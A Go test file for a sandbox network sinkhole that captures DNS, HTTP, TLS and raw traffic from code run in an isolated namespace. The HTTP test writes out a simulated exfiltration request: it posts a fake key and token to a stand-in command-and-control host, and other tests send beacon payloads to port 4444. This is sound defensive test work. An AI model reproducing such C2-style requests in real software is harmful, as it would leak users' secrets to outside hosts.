package sinkhole

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/fumehood/fumehood/internal/testenv"
	"github.com/fumehood/fumehood/trace"
	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// startSinkhole starts a sinkhole under a temporary state dir and closes
// it when the test ends.
func startSinkhole(t *testing.T, name string, ca *CA) *Sinkhole {
	t.Helper()
	testenv.Root(t)
	dir := stateDir(t)
	s, err := Start(context.Background(), Config{Name: name, StateDir: dir, CA: ca})
	if err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Errorf("Close: %v", err)
		}
	})
	return s
}

// stateDir returns a temporary state dir whose shared netns mount is
// removed before the directory.
func stateDir(t *testing.T) string {
	dir := t.TempDir()
	t.Cleanup(func() { unix.Unmount(filepath.Join(dir, "netns"), unix.MNT_DETACH) })
	return dir
}

// inSandbox runs fn in s's sandbox netns.
func inSandbox(t *testing.T, s *Sinkhole, fn func() error) {
	t.Helper()
	if err := inNetNS(s.NetNSPath(), fn); err != nil {
		t.Fatal(err)
	}
}

// dialIn dials addr over network from inside s's sandbox netns.
func dialIn(t *testing.T, s *Sinkhole, network, addr string) net.Conn {
	t.Helper()
	var c net.Conn
	inSandbox(t, s, func() error {
		var err error
		c, err = net.DialTimeout(network, addr, time.Minute)
		return err
	})
	t.Cleanup(func() { c.Close() })
	c.SetDeadline(time.Now().Add(2 * time.Minute)) // a guard against a hang, not a speed
	return c
}

var (
	takenMu sync.Mutex
	taken   = map[*Sinkhole][]trace.Event{}
)

// captured returns every capture of s so far: Take's results, kept.
func captured(s *Sinkhole) []trace.Event {
	takenMu.Lock()
	defer takenMu.Unlock()
	taken[s] = append(taken[s], s.Take()...)
	return taken[s]
}

// waitEvent waits (bounded) for an event matching ok and returns it.
func waitEvent(t *testing.T, s *Sinkhole, what string, ok func(trace.Event) bool) trace.Event {
	t.Helper()
	var found trace.Event
	testenv.WaitFor(t, 2*time.Minute, "a "+what+" event", func() bool {
		for _, e := range captured(s) {
			if ok(e) {
				found = e
				return true
			}
		}
		return false
	})
	return found
}

func kind(k trace.Kind) func(trace.Event) bool {
	return func(e trace.Event) bool { return e.Kind == k }
}

func TestDNS(t *testing.T) {
	s := startSinkhole(t, "dns", nil)
	tests := []struct {
		network, server string
		name            string
		qtype           uint16
		want            string // the answer's data
	}{
		{"udp", "100.64.0.1:53", "a.example.com.", dns.TypeA, "100.64.0.1"},
		{"udp", "198.51.100.53:53", "token-1f2e.example.org.", dns.TypeAAAA, "fd53:696e:6b00::1"},
		{"udp", "[2001:db8::53]:53", "six.example.net.", dns.TypeTXT, `"v=spf1 -all"`},
		{"tcp", "192.0.2.53:53", "over-tcp.example.com.", dns.TypeA, "100.64.0.1"},
	}
	for _, tt := range tests {
		t.Run(tt.network+" "+tt.server, func(t *testing.T) {
			c := dialIn(t, s, tt.network, tt.server)
			q := new(dns.Msg)
			q.SetQuestion(tt.name, tt.qtype)
			r, _, err := (&dns.Client{Net: tt.network}).ExchangeWithConn(q, &dns.Conn{Conn: c})
			if err != nil {
				t.Fatalf("exchange: %v", err)
			}
			if len(r.Answer) != 1 {
				t.Fatalf("answers: got %v, want 1", r.Answer)
			}
			f := strings.Fields(r.Answer[0].String())
			if got := strings.Join(f[4:], " "); got != tt.want {
				t.Errorf("answer: got %s, want %s", got, tt.want)
			}
			host, port, _ := net.SplitHostPort(tt.server)
			e := waitEvent(t, s, "dns", func(e trace.Event) bool {
				return e.Kind == trace.KindDNS && e.Name == strings.TrimSuffix(tt.name, ".")
			})
			if got, want := e.QType, dns.TypeToString[tt.qtype]; got != want {
				t.Errorf("qtype: got %s, want %s", got, want)
			}
			if got, want := fmt.Sprintf("%s:%d", e.Addr, e.Port), host+":"+port; got != want {
				t.Errorf("destination: got %s, want %s", got, want)
			}
		})
	}
}

func TestHTTP(t *testing.T) {
	s := startSinkhole(t, "http", nil)
	c := dialIn(t, s, "tcp", "198.51.100.20:80")
	body := "k=AKIA-not-a-key&x=" + strings.Repeat("y", 5000)
	req := "POST /collect?id=7 HTTP/1.1\r\nHost: c2.example.com\r\nUser-Agent: node\r\nX-Token: abc\r\n" +
		fmt.Sprintf("Content-Length: %d\r\n\r\n", len(body)) + body +
		"GET /second HTTP/1.1\r\nHost: c2.example.com\r\nConnection: close\r\n\r\n"
	if _, err := io.WriteString(c, req); err != nil {
		t.Fatal(err)
	}
	br := bufio.NewReader(c)
	for _, method := range []string{"POST", "GET"} {
		resp, err := http.ReadResponse(br, &http.Request{Method: method})
		if err != nil {
			t.Fatalf("%s response: %v", method, err)
		}
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != 200 || len(b) == 0 {
			t.Errorf("%s response: got %d %q, want 200 with a body", method, resp.StatusCode, b)
		}
	}
	e := waitEvent(t, s, "http POST", func(e trace.Event) bool { return e.Kind == trace.KindHTTP && e.Method == "POST" })
	want := trace.Event{
		Kind: trace.KindHTTP, Method: "POST", Name: "c2.example.com", URI: "/collect?id=7",
		Headers: []string{"Host: c2.example.com", "User-Agent: node", "X-Token: abc", fmt.Sprintf("Content-Length: %d", len(body))},
		Data:    []byte(body[:headMax]), Addr: "198.51.100.20", Port: 80,
	}
	e.Time = time.Time{}
	if fmt.Sprint(e) != fmt.Sprint(want) {
		t.Errorf("event:\ngot  %+v\nwant %+v", e, want)
	}
	waitEvent(t, s, "http GET", func(e trace.Event) bool { return e.Kind == trace.KindHTTP && e.URI == "/second" })
}

func TestTLS(t *testing.T) {
	ca, err := NewCA()
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name      string
		ca        *CA
		wantInner bool
	}{
		{"terminated", ca, true},
		{"sni only", nil, false},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := startSinkhole(t, fmt.Sprintf("tls%d", i), tt.ca)
			// Resolve through the sinkhole, as a package would.
			dc := dialIn(t, s, "udp", "100.64.0.1:53")
			q := new(dns.Msg)
			q.SetQuestion("api.example.net.", dns.TypeA)
			r, _, err := new(dns.Client).ExchangeWithConn(q, &dns.Conn{Conn: dc})
			if err != nil || len(r.Answer) != 1 {
				t.Fatalf("resolve: %v %v", r, err)
			}
			addr := r.Answer[0].(*dns.A).A.String()
			pool := x509.NewCertPool()
			pool.AppendCertsFromPEM(ca.CertPEM())
			tc := tls.Client(dialIn(t, s, "tcp", addr+":443"), &tls.Config{ServerName: "api.example.net", RootCAs: pool})
			err = tc.Handshake()
			if tt.wantInner != (err == nil) {
				t.Fatalf("handshake: got %v, want success %v", err, tt.wantInner)
			}
			e := waitEvent(t, s, "tls", kind(trace.KindTLS))
			if e.Name != "api.example.net" || e.Port != 443 || e.Addr != "100.64.0.1" {
				t.Errorf("tls event: got %+v, want sni api.example.net to 100.64.0.1:443", e)
			}
			if !tt.wantInner {
				return
			}
			io.WriteString(tc, "GET /v1/upload HTTP/1.1\r\nHost: api.example.net\r\nConnection: close\r\n\r\n")
			resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
			if err != nil || resp.StatusCode != 200 {
				t.Fatalf("inner response: %v %v", resp, err)
			}
			h := waitEvent(t, s, "http", kind(trace.KindHTTP))
			if h.Method != "GET" || h.Name != "api.example.net" || h.URI != "/v1/upload" || h.Port != 443 {
				t.Errorf("inner http: got %+v, want GET api.example.net/v1/upload on 443", h)
			}
		})
	}
}

func TestRawTCPAndUDP(t *testing.T) {
	s := startSinkhole(t, "raw", nil)
	tests := []struct {
		network, addr string
		payload       string
		kind          trace.Kind
	}{
		{"tcp", "203.0.113.7:4444", "\x00\x01beacon-v4", trace.KindTCP},
		{"tcp", "[2001:db8::7]:4444", "beacon-v6", trace.KindTCP},
		{"udp", "198.51.100.9:9999", "datagram-v4", trace.KindUDP},
		{"udp", "[2001:db8::9]:123", "datagram-v6", trace.KindUDP},
	}
	for _, tt := range tests {
		t.Run(tt.network+" "+tt.addr, func(t *testing.T) {
			c := dialIn(t, s, tt.network, tt.addr)
			if _, err := io.WriteString(c, tt.payload); err != nil {
				t.Fatal(err)
			}
			if tc, ok := c.(*net.TCPConn); ok {
				tc.CloseWrite()
			}
			e := waitEvent(t, s, string(tt.kind), func(e trace.Event) bool { return string(e.Data) == tt.payload })
			host, port, _ := net.SplitHostPort(tt.addr)
			if got, want := fmt.Sprintf("%s %s:%d", e.Kind, e.Addr, e.Port), fmt.Sprintf("%s %s:%s", tt.kind, host, port); got != want {
				t.Errorf("event: got %s, want %s", got, want)
			}
		})
	}
}

func TestIsolation(t *testing.T) {
	a := startSinkhole(t, "iso-a", nil)
	b := startSinkhole(t, "iso-b", nil)
	for _, s := range []*Sinkhole{a, b} {
		c := dialIn(t, s, "tcp", "203.0.113.8:7000")
		io.WriteString(c, "from-"+s.name)
		c.(*net.TCPConn).CloseWrite()
	}
	for _, s := range []*Sinkhole{a, b} {
		waitEvent(t, s, "own tcp", func(e trace.Event) bool { return string(e.Data) == "from-"+s.name })
	}
	for _, s := range []*Sinkhole{a, b} {
		for _, e := range captured(s) {
			if e.Kind == trace.KindTCP && string(e.Data) != "from-"+s.name {
				t.Errorf("sinkhole %s recorded %q: traffic crossed sinkholes", s.name, e.Data)
			}
		}
	}
}

// mounted reports whether path is a mount point in this mount namespace.
func mounted(t *testing.T, path string) bool {
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range strings.Split(string(b), "\n") {
		if f := strings.Fields(l); len(f) > 4 && f[4] == path {
			return true
		}
	}
	return false
}

// assertGone fails unless every file and mount of sinkhole name is gone.
func assertGone(t *testing.T, dir, name string) {
	t.Helper()
	sbx, sink, d := paths(dir, name)
	for _, p := range []string{sbx, sink, d} {
		if _, err := os.Stat(p); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s: got %v, want it gone", p, err)
		}
		if mounted(t, p) {
			t.Errorf("%s: still mounted", p)
		}
	}
}

func TestCloseRemovesEverything(t *testing.T) {
	testenv.Root(t)
	dir := stateDir(t)
	s, err := Start(context.Background(), Config{Name: "close", StateDir: dir})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{s.NetNSPath(), s.sinkPath} {
		if !mounted(t, p) {
			t.Errorf("%s: not mounted while running", p)
		}
	}
	if _, err := Start(context.Background(), Config{Name: "close", StateDir: dir}); !errors.Is(err, ErrExists) {
		t.Errorf("second Start: got %v, want ErrExists", err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	assertGone(t, dir, "close")
}

const crashEnv = "FUMEHOOD_SINKHOLE_CRASH_DIR"

// TestMain makes the test binary, run by TestReap with crashEnv=DIR, a
// process that starts a sinkhole and exits without closing it.
func TestMain(m *testing.M) {
	if dir := os.Getenv(crashEnv); dir != "" {
		if _, err := Start(context.Background(), Config{Name: "crashed", StateDir: dir}); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(3)
		}
		os.Exit(0)
	}
	os.Exit(m.Run())
}

func TestReap(t *testing.T) {
	testenv.Root(t)
	dir := stateDir(t)
	cmd := exec.Command(os.Args[0])
	cmd.Env = append(os.Environ(), crashEnv+"="+dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("crash helper: %v\n%s", err, out)
	}
	sbx, _, _ := paths(dir, "crashed")
	if !mounted(t, sbx) {
		t.Fatalf("crash helper left no sandbox netns at %s", sbx)
	}
	live, err := Start(context.Background(), Config{Name: "live", StateDir: dir})
	if err != nil {
		t.Fatal(err)
	}
	defer live.Close()
	if err := Reap(dir); err != nil {
		t.Fatalf("Reap: %v", err)
	}
	assertGone(t, dir, "crashed")
	if !mounted(t, live.NetNSPath()) {
		t.Errorf("Reap removed the live sinkhole's netns")
	}
	if got := slices.Collect(func(yield func(string) bool) {
		entries, _ := os.ReadDir(filepath.Join(dir, "sinkhole"))
		for _, e := range entries {
			yield(e.Name())
		}
	}); !slices.Equal(got, []string{"live"}) {
		t.Errorf("sinkhole dirs after Reap: got %v, want [live]", got)
	}
}
